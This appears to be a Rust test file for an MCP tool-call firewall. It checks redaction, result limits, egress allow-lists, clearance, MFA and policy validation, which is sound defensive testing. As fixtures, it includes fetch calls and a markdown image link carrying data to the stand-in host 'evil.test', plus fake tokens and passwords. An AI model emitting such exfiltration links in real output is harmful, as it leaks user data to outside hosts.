//! Obligations through whole exchanges: what either side sees, and what is recorded.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::sync::Arc;

use portcullis_engine::audit::Decided;
use portcullis_engine::driver::{Driver, Outcome, Request, Response};
use portcullis_engine::exchange::{Answer, Question};
use portcullis_engine::firewall::Firewall;

fn driver(obligations: &str) -> Driver {
    let policy = format!(
        r#"{{"version":"1","servers":[{{"name":"s"}}],
            "rules":[{{"id":"all","action":"allow"}},{{"id":"deploys","priority":1,"match":{{"name":["deploy"]}},"action":"require_approval"}}],
            "identity":{{"keys":{{"header":"x-key","entries":[
                {{"sha256":"{SECRET}","id":"anna","kind":"human","roles":["admin"]}}]}}}},
            "clearance":{{"principals":[{{"match":{{"roles":["admin"]}},"level":"secret"}}]}},
            "obligations":[{obligations}]}}"#
    );
    Driver::new(Arc::new(Firewall::from_json(policy.as_bytes(), [7; 32]).unwrap()))
}

/// SHA-256 of `secret`.
const SECRET: &str = "2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b";

fn call(name: &str, arguments: &str) -> String {
    format!(r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{name}","arguments":{arguments}}}}}"#)
}

fn result(result: &str) -> String {
    format!(r#"{{"jsonrpc":"2.0","id":1,"result":{result}}}"#)
}

fn sent(driver: &mut Driver, body: &str, answer: &str) -> Outcome {
    driver.run(&Request::post("/mcp", body), |_| Response::json(result(answer)))
}

const EMPTY: &str = r#"{"content":[]}"#;

#[test]
fn members_of_arguments_are_redacted_for_the_server() {
    let mut driver = driver(r#"{"id":"pins","redact_arguments":["pin","/a/*/b"]}"#);
    let outcome = sent(&mut driver, &call("t", r#"{"pin":"1234","n":{"PIN":5},"a":[{"b":"x"}]}"#), EMPTY);
    let seen = outcome.upstream.unwrap().text();
    let expected = r#"{"pin":"[REDACTED:pins]","n":{"PIN":null},"a":[{"b":"[REDACTED:pins]"}]}"#;
    assert_eq!(seen, call("t", expected));
    let record = &outcome.records[0];
    assert_eq!((record.decision, &*record.rule), (Decided::Redact, "all"));
    assert_eq!(record.rules_fired, [Arc::from("obligation:pins")]);
    // What is redacted does not go on: a scanner has nothing to refuse.
    let secret = r#"{"pin":"ghp_0123456789abcdefghijABCDEFGHIJ0123456"}"#;
    assert!(sent(&mut driver, &call("t", secret), EMPTY).upstream.is_some());
}

#[test]
fn a_mirrored_header_follows_its_argument() {
    let mut driver = driver(r#"{"id":"pins","redact_arguments":["pin","count"]}"#);
    let request = Request::post("/mcp", call("t", r#"{"pin":"1234","count":7,"region":"eu"}"#))
        .header("mcp-param-pin", "1234")
        .header("mcp-param-count", "7")
        .header("mcp-param-region", "eu");
    let seen = driver.run(&request, |_| Response::json(result(EMPTY))).upstream.unwrap();
    assert_eq!(seen.header("mcp-param-pin"), Some("[REDACTED:pins]"));
    assert_eq!(seen.header("mcp-param-count"), None);
    assert_eq!(seen.header("mcp-param-region"), Some("eu"));
}

#[test]
fn what_decides_the_call_is_not_rewritten() {
    let mut driver = driver(r#"{"id":"uris","redact_arguments":["uri"]}"#);
    let body = r#"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"a:b"}}"#;
    let outcome = sent(&mut driver, body, EMPTY);
    assert!(outcome.upstream.is_none());
    assert_eq!(&*outcome.records[0].rule, "obligation:uris");
}

#[test]
fn members_of_results_are_redacted_in_json_and_in_events() {
    let answer =
        r#"{"structuredContent":{"ssn":"078-05-1120"},"content":[{"type":"text","text":"{\"ssn\":\"078-05-1120\"}"}]}"#;
    let expected = r#"{"structuredContent":{"ssn":"[REDACTED:ssn]"},"content":[{"type":"text","text":"{\"ssn\":\"[REDACTED:ssn]\"}"}]}"#;
    let mut driver = driver(r#"{"id":"ssn","match":{"name":["get_*"]},"redact_result":["**.ssn"]}"#);
    let outcome = sent(&mut driver, &call("get_it", "{}"), answer);
    assert_eq!(outcome.client.text(), result(expected));
    assert_eq!(outcome.records[0].decision, Decided::Redact);
    let outcome = driver.run(&Request::post("/mcp", call("get_it", "{}")), |_| {
        Response::sse([format!("data: {}\n\n", result(answer))])
    });
    assert_eq!(outcome.client.text(), format!("data: {}\n\n", result(expected)));
    // A stream that belongs to no call may carry an answer to one that is meant.
    let mut get = Request::post("/mcp", "");
    get.chunks.clear();
    get.headers[0].1 = b"GET".to_vec();
    get.headers.retain(|(name, _)| !name.starts_with("content-"));
    let outcome = driver.run(&get, |_| Response::sse([format!("data: {}\n\n", result(answer))]));
    assert_eq!(outcome.client.text(), format!("data: {}\n\n", result(expected)));
    let other = sent(&mut driver, &call("other", "{}"), r#"{"structuredContent":{"ssn":"x1"},"content":[]}"#);
    assert!(other.client.text().contains("x1"));
}

#[test]
fn results_are_bounded() {
    for (limit, answer) in [
        (r#""max_result_bytes":"1KB""#, format!(r#"{{"content":[{{"type":"text","text":"{}"}}]}}"#, "x".repeat(2000))),
        (r#""max_result_items":2"#, r#"{"content":[{},{},{}]}"#.to_owned()),
        (r#""max_result_rows":2"#, r#"{"content":[],"structuredContent":[{"a":1},{"a":2},{"a":3}]}"#.to_owned()),
    ] {
        let mut driver = driver(&format!(r#"{{"id":"small",{limit}}}"#));
        let outcome = sent(&mut driver, &call("t", "{}"), &answer);
        let text = outcome.client.text();
        assert!(text.contains(r#""isError":true"#) && text.contains("are allowed"), "{text}");
        assert_eq!((outcome.records[0].decision, &*outcome.records[0].rule), (Decided::Deny, "obligation:small"));
        assert!(!sent(&mut driver, &call("t", "{}"), EMPTY).client.text().contains("isError"));
    }
}

#[test]
fn hosts_that_are_not_allowed_are_blocked_redacted_or_recorded() {
    let egress =
        |action: &str| driver(&format!(r#"{{"id":"net","egress":{{"allow":["example.com"],"action":"{action}"}}}}"#));
    let fetch = |host: &str| call("fetch", &format!(r#"{{"url":"https://{host}/x?d=1"}}"#));
    assert!(sent(&mut egress("block"), &fetch("example.com"), EMPTY).upstream.is_some());
    let outcome = sent(&mut egress("block"), &fetch("evil.test"), EMPTY);
    assert!(outcome.upstream.is_none());
    let text = outcome.client.text();
    assert!(text.contains("a host that is not allowed, at /params/arguments/url") && !text.contains("evil"), "{text}");
    assert_eq!(outcome.records[0].findings[0].scanner, "egress");
    let seen = sent(&mut egress("redact"), &fetch("evil.test"), EMPTY).upstream.unwrap().text();
    assert_eq!(seen, call("fetch", r#"{"url":"[REDACTED:net]"}"#));
    let outcome = sent(&mut egress("log"), &fetch("evil.test"), EMPTY);
    assert!(outcome.upstream.is_some() && outcome.records[0].findings.len() == 1);

    let answer =
        r#"{"content":[{"type":"text","text":"![x](https:\/\/evil.test\/i.png?d=1) and https:\/\/example.com\/"}]}"#;
    let text = sent(&mut egress("block"), &call("t", "{}"), answer).client.text();
    assert!(text.contains(r#""isError":true"#) && !text.contains("evil"), "{text}");
    let text = sent(&mut egress("redact"), &call("t", "{}"), answer).client.text();
    assert!(text.contains(r"![x]([REDACTED:net] and https:\/\/example.com\/"), "{text}");
    // What a server sends of itself counts as well.
    let note = r#"data: {"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"see https://evil.test/"}}"#;
    let body = format!("{note}\n\ndata: {}\n\n", result(EMPTY));
    let outcome = egress("block").run(&Request::post("/mcp", call("t", "{}")), |_| Response::sse([body]));
    assert_eq!(outcome.client.text(), format!("data: {}\n\n", result(EMPTY)));
    // Lists are meant only where it is said.
    let list = r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#;
    let tools = r#"{"tools":[{"name":"t","description":"see https://evil.test/","inputSchema":{}}]}"#;
    assert!(sent(&mut egress("block"), list, tools).client.text().contains("evil.test"));
}

#[test]
fn a_clearance_is_asked_for() {
    let mut driver = driver(r#"{"id":"level","match":{"name":["secret_*"]},"require_clearance":"confidential"}"#);
    let body = call("secret_tool", "{}");
    let outcome = sent(&mut driver, &body, EMPTY);
    assert!(outcome.upstream.is_none() && outcome.client.text().contains("higher clearance"));
    let as_admin = Request::post("/mcp", body).header("x-key", "secret");
    let outcome = driver.run(&as_admin, |_| Response::json(result(EMPTY)));
    assert!(outcome.upstream.is_some(), "{}", outcome.client.text());
    let tools = r#"{"tools":[{"name":"secret_tool","inputSchema":{}},{"name":"t","inputSchema":{}}]}"#;
    let list = r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#;
    assert!(!sent(&mut driver, list, tools).client.text().contains("secret_tool"));
}

#[test]
fn a_one_time_code_is_asked_for_and_goes_no_further() {
    let policy = r#"{"id":"mfa","match":{"name":["pay","deploy"]},"require_mfa":true}"#;
    let text = sent(&mut driver(policy), &call("pay", "{}"), EMPTY).client.text();
    assert!(text.contains(r#""mfa":"required""#) && text.contains("x-portcullis-mfa"), "{text}");
    let with = |request: Request, answer: Answer| {
        let mut driver = driver(policy);
        driver.answer = answer;
        driver.run(&request, |_| Response::json(result(EMPTY)))
    };
    let header = |code: &str| Request::post("/mcp", call("pay", "{}")).header("x-portcullis-mfa", code);
    let outcome = with(header("12 34"), Answer::Approved);
    assert!(outcome.upstream.is_none() && outcome.client.text().contains("six to eight digits"));
    let outcome = with(header("123456"), Answer::NotConfigured);
    assert!(outcome.upstream.is_none() && outcome.client.text().contains("MFA verification is not configured"));
    assert_eq!((outcome.records[0].decision, &*outcome.records[0].rule), (Decided::Deny, "obligation:mfa"));
    let outcome = with(header("123456"), Answer::Refused);
    assert!(outcome.client.text().contains("It was denied."));
    let outcome = with(header("123456"), Answer::Approved);
    assert_eq!(outcome.upstream.unwrap().header("x-portcullis-mfa"), None);
    assert!(
        matches!(&outcome.questions[..], [Question::Admit(asked)] if asked.mfa.as_ref().unwrap().code.digits() == "123456")
    );
    assert_eq!(outcome.records[0].decision, Decided::Allow);

    let meta = |code: &str| {
        format!(
            r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"pay","arguments":{{}},"_meta":{{"a":1,"io.portcullis/mfa":"{code}"}}}}}}"#
        )
    };
    let seen = with(Request::post("/mcp", meta("654321")), Answer::Approved).upstream.unwrap().text();
    assert!(seen.contains(r#""_meta":{"a":1}"#), "{seen}");
    let both = Request::post("/mcp", meta("654321")).header("x-portcullis-mfa", "123456");
    assert!(with(both, Answer::Approved).upstream.is_none());
    // Where none is needed it goes no further either.
    let seen = sent(&mut driver(policy), &meta("654321").replace("\"pay\"", "\"t\""), EMPTY).upstream.unwrap().text();
    assert!(!seen.contains("654321"), "{seen}");
    // A call that needs both asks once.
    let both = Request::post("/mcp", call("deploy", "{}")).header("x-portcullis-mfa", "123456");
    let outcome = with(both, Answer::Approved);
    assert!(
        matches!(&outcome.questions[..], [Question::Admit(asked)] if asked.mfa.is_some() && asked.approval.is_some())
    );
    assert!(outcome.upstream.is_some());
}

#[test]
fn a_call_that_waits_for_an_approval_is_scanned_all_the_same() {
    let mut driver = driver(r#"{"id":"pins","redact_arguments":["pin"]}"#);
    driver.answer = Answer::Approved;
    let secret = call("deploy", r#"{"token":"ghp_0123456789abcdefghijABCDEFGHIJ0123456","password":"kT9!vQ2#mZ7x"}"#);
    assert!(sent(&mut driver, &secret, EMPTY).upstream.is_none());
    let seen = sent(&mut driver, &call("deploy", r#"{"pin":"1"}"#), EMPTY).upstream.unwrap().text();
    assert_eq!(seen, call("deploy", r#"{"pin":"[REDACTED:pins]"}"#));
}

#[test]
fn scanners_are_overridden_for_some_calls() {
    let password = call("t", r#"{"db":{"password":"kT9!vQ2#mZ7x"}}"#);
    assert!(sent(&mut driver(r#"{"id":"x","max_result_items":9}"#), &password, EMPTY).upstream.is_none());
    let outcome = sent(&mut driver(r#"{"id":"dlp","dlp":{"arguments":"log"}}"#), &password, EMPTY);
    assert!(outcome.upstream.is_some() && outcome.records[0].findings.len() == 1);
    let outcome = sent(&mut driver(r#"{"id":"dlp","dlp":{"arguments":"off"}}"#), &password, EMPTY);
    assert!(outcome.upstream.is_some() && outcome.records[0].findings.is_empty());
    let answer = r#"{"content":[{"type":"text","text":"password: kT9!vQ2#mZ7x"}]}"#;
    let text = sent(&mut driver(r#"{"id":"dlp","dlp":{"result":"block"}}"#), &call("t", "{}"), answer).client.text();
    assert!(text.contains(r#""isError":true"#), "{text}");
    // Where two obligations differ the stricter one counts.
    let both = r#"{"id":"a","dlp":{"arguments":"off"}},{"id":"b","dlp":{"arguments":"block"}}"#;
    assert!(sent(&mut driver(both), &password, EMPTY).upstream.is_none());
}

#[test]
fn page_loops_end() {
    let mut driver = driver(r#"{"id":"pages","max_pages":"2/hour"}"#);
    let page = |number: u32| call("search", &format!(r#"{{"page":{number}}}"#));
    for (number, passes) in [(1, true), (2, true), (3, true), (4, false), (1, true), (5, false)] {
        let outcome = sent(&mut driver, &page(number), EMPTY);
        assert_eq!(outcome.upstream.is_some(), passes, "{number}");
        assert_eq!(outcome.client.text().contains("Try again in"), !passes);
    }
}

#[test]
fn conditions_in_cel() {
    let mut own =
        driver(r#"{"id":"large","when":"args.amount > 100 && !('admin' in principal.roles)","require_mfa":true}"#);
    for (arguments, passes) in
        [(r#"{"amount":100}"#, true), (r#"{"amount":100.5}"#, false), ("{}", false), (r#"{"amount":"x"}"#, false)]
    {
        assert_eq!(sent(&mut own, &call("pay", arguments), EMPTY).upstream.is_some(), passes, "{arguments}");
    }
    let policy = |rules: &str| {
        let policy = format!(r#"{{"version":"1","environment":"prod","servers":[{{"name":"s"}}],"rules":[{rules}]}}"#);
        Driver::new(Arc::new(Firewall::from_json(policy.as_bytes(), [7; 32]).unwrap()))
    };
    // An error denies: a rule that lets through does not match, a rule that restricts does.
    let mut allow = policy(
        r#"{"id":"a","when":"args.n == 1 && environment == 'prod' && now.getFullYear() >= 2000","action":"allow"}"#,
    );
    let mut deny =
        policy(r#"{"id":"a","action":"allow"},{"id":"d","when":"args.n == 1 && mcp.tool == 't'","action":"deny"}"#);
    for (arguments, allowed, denied) in [
        (r#"{"n":1}"#, true, true),
        (r#"{"n":2}"#, false, false),
        ("{}", false, true),
        (r#"{"n":1,"N":2}"#, false, true),
    ] {
        assert_eq!(sent(&mut allow, &call("t", arguments), EMPTY).upstream.is_some(), allowed, "{arguments}");
        assert_eq!(sent(&mut deny, &call("t", arguments), EMPTY).upstream.is_none(), denied, "{arguments}");
    }
    let mut sessions = policy(r#"{"id":"a","when":"has(session.id) && session.id.startsWith('s-')","action":"allow"}"#);
    let request = Request::post("/mcp", call("t", "{}"));
    assert!(sessions.run(&request, |_| Response::json(result(EMPTY))).upstream.is_none());
    let request = request.header("mcp-session-id", "s-1");
    assert!(sessions.run(&request, |_| Response::json(result(EMPTY))).upstream.is_some());
}

#[test]
fn a_shadow_obligation_is_only_recorded() {
    let all = r#"{"id":"shadow","mode":"shadow","redact_arguments":["pin"],"redact_result":["ssn"],"max_result_items":0,
        "egress":{"allow":[]},"require_clearance":"secret","require_mfa":true,"max_pages":"0/hour"}"#;
    let mut driver = driver(all);
    let body = call("t", r#"{"pin":"1234","url":"https://evil.test/","page":3}"#);
    let answer = r#"{"content":[{"type":"text","text":"{\"ssn\":\"1234\"}"}]}"#;
    let outcome = sent(&mut driver, &body, answer);
    assert_eq!(outcome.upstream.unwrap().text(), body);
    assert_eq!(outcome.client.text(), result(answer));
    let record = &outcome.records[0];
    assert_eq!(record.decision, Decided::Allow);
    assert_eq!(record.would, Some((Decided::Deny, "obligation:shadow".to_owned())));
}

#[test]
fn mistakes_are_refused_with_their_place() {
    for (obligations, expected) in [
        (r#"{"id":"a"}"#, "/obligations/0: obliges nobody to anything"),
        (
            r#"{"id":"a","require_mfa":true},{"id":"a","require_mfa":true}"#,
            "/obligations/1/id: a second obligation `a`",
        ),
        (r#"{"id":"a","redact_result":["a..b"]}"#, "/obligations/0/redact_result/0: is no key and no path"),
        (r#"{"id":"a","egress":{"allow":["https://x"]}}"#, "/obligations/0/egress/allow/0: is no host"),
        (
            r#"{"id":"a","dlp":{"result":"log","scanners":["secret"]}}"#,
            "/obligations/0/dlp/scanners/0: unknown scanner `secret`; did you mean `secrets`?",
        ),
        (
            r#"{"id":"a","require_clearance":"internl"}"#,
            "/obligations/0/require_clearance: unknown level `internl`; did you mean `internal`?",
        ),
        (r#"{"id":"a","max_pages":"x"}"#, "/obligations/0/max_pages: is no number of pages in a time"),
        (r#"{"id":"a","max_result_bytes":"x"}"#, "/obligations/0/max_result_bytes: is no size"),
        (
            r#"{"id":"a","require_mfa":true,"when":"arg.x == 1"}"#,
            "/obligations/0/when: unknown name `arg`; did you mean `args`? at byte 0",
        ),
        (
            r#"{"id":"a","require_mfa":true,"match":{"server":["t"]}}"#,
            "/obligations/0/match/server/0: no server is called `t`",
        ),
    ] {
        let policy = format!(r#"{{"version":"1","servers":[{{"name":"s"}}],"obligations":[{obligations}]}}"#);
        let error = Firewall::from_json(policy.as_bytes(), [7; 32]).unwrap_err().to_string();
        assert!(error.starts_with(expected), "{obligations}: {error}");
    }
}
